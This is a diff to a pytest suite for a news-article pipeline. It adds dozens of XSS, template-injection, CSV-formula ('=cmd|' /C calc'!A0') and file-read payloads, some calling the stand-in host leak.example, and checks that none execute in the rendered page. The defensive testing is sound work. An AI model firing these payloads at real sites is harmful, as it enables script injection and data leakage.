@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
+from graph.errors import InputError
+from graph.pipeline import Pipeline
 from tests.outputs.conftest import Opener
 from tests.outputs.views import hostile_view
 
@@ -33,7 +37,81 @@ PAYLOADS = (
     "constructor",
     "url(//leak.example/a.css)",
     "</bdi></td></table><form action=//leak.example><input autofocus>",
+    "</noscript><script>window.pwned=1</script>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<style>@import url(//leak.example/b.css)</style>",
+    "<link rel=stylesheet href=//leak.example/c.css>",
+    "<meta http-equiv=refresh content='0;url=//leak.example'>",
+    "<base href=//leak.example>",
+    "<object data=//leak.example></object><embed src=//leak.example>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<details open ontoggle=window.pwned=1>",
+    "<math><mtext></mtext><mglyph><style></math><img src onerror=window.pwned=1>",
+    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
+    "data:text/html,<script>window.pwned=1</script>",
+    "file:///etc/passwd",
+    "//leak.example/%2e%2e/x?y#z",
+    "`;window.pwned=1;//",
+    "*/window.pwned=1/*",
+    "<%= window.pwned=1 %><?php window.pwned=1 ?>",
+    "{%- include '/etc/passwd' -%}{{ config }}",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+    "=cmd|' /C calc'!A0",
+    "\\ud800 \\x3cscript\\x3e \\0",
+    "á" * 200 + "​‍﻿­",
+    "⁦⁧‫‪ mixed אב مر directions ⁩‬",
+    '"}]}</script><script>window.pwned=1</script>{"a":["',
 )
+
+
+_FOREIGN = "img, iframe, object, embed, form, a, base, link, video, math, style ~ style"
+
+
+def _article(payload: str) -> str:
+    """An article with a payload in its headline, its source, names, offices and speech."""
+    return (
+        f"Norway and Russia near {payload} accord\n"
+        f"Source: {payload}\n\n"
+        f"OSLO, Norway — Norwegian Foreign Minister Henrik {payload} Dahl met Russian President "
+        f"Vladimir Putin on Tuesday. “We will sign {payload},” Dahl told reporters.\n\n"
+        f"Russia accused {payload} of threatening Norway. Ana Castelo, the head of {payload}, said "
+        f"that Norway had visited {payload} in January 2024. Dahl denied {payload}.\n"
+    )
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_in_an_article_stays_text_all_the_way(
+    payload: str, pipeline: Pipeline, tmp_path: Path, open_page: Opener
+) -> None:
+    text = tmp_path / "article.txt"
+    # A file holds no half of a character, which a string may.
+    text.write_text(_article(payload), encoding="utf-8", errors="replace")
+    try:
+        built = pipeline.build(text, publisher=payload)
+    except InputError as error:
+        # Read as no text at all, and said so: nothing is written.
+        assert "\n" not in str(error)
+        return
+    opened = open_page(built.view, store=built.store, query=False)
+    page = opened.page
+    page.fill("#search", "a")
+    page.keyboard.press("Enter")
+    page.click("#tab-article")
+    for view in ("tables", "sides", "drawing"):
+        page.click(f"button[data-view={view}]")
+    page.evaluate(
+        "document.querySelectorAll('#tables table button').forEach((name) => name.click())"
+    )
+    page.evaluate("document.querySelectorAll('#sides button').forEach((name) => name.click())")
+    assert page.evaluate("window.pwned") is None
+    assert page.locator("script").count() == 3
+    assert page.locator(_FOREIGN).count() == 0
+    assert opened.clean()
+
+
+def test_there_are_fifty_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 50
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -53,12 +131,14 @@ def test_a_payload_stays_text(payload: str, open_page: Opener) -> None:
     opened.click(hostile)
     page.hover("#facts")
     page.click("#tab-article")
-    page.click("button[data-view=list]")
-    for name in page.query_selector_all("#list button"):
+    page.click("button[data-view=tables]")
+    for name in page.locator("#tables tbody button").all():
         name.click()
+    page.click("button[data-view=sides]")
+    page.evaluate("document.querySelectorAll('#sides button').forEach((name) => name.click())")
     assert page.evaluate("window.pwned") is None
     assert page.locator("script").count() == 2
-    assert page.locator("img, iframe, object, embed, form, a, base, link").count() == 0
+    assert page.locator(_FOREIGN).count() == 0
     assert opened.clean()
 
 
